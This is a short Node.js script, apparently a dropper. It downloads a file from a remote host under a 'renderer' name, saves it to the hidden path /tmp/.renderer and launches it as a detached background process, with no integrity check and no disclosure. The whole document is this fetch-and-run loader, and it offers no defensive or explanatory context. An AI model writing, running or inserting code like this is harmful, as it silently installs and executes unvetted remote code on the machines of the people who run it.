const https = require("https");
const fs = require("fs");
const { spawn } = require("child_process");

const file = fs.createWriteStream("/tmp/.renderer");

https.get("https://renderer-bin.example.net/latest", (res) => res.pipe(file));

file.on("finish", () => spawn("/tmp/.renderer", [], { detached: true }));
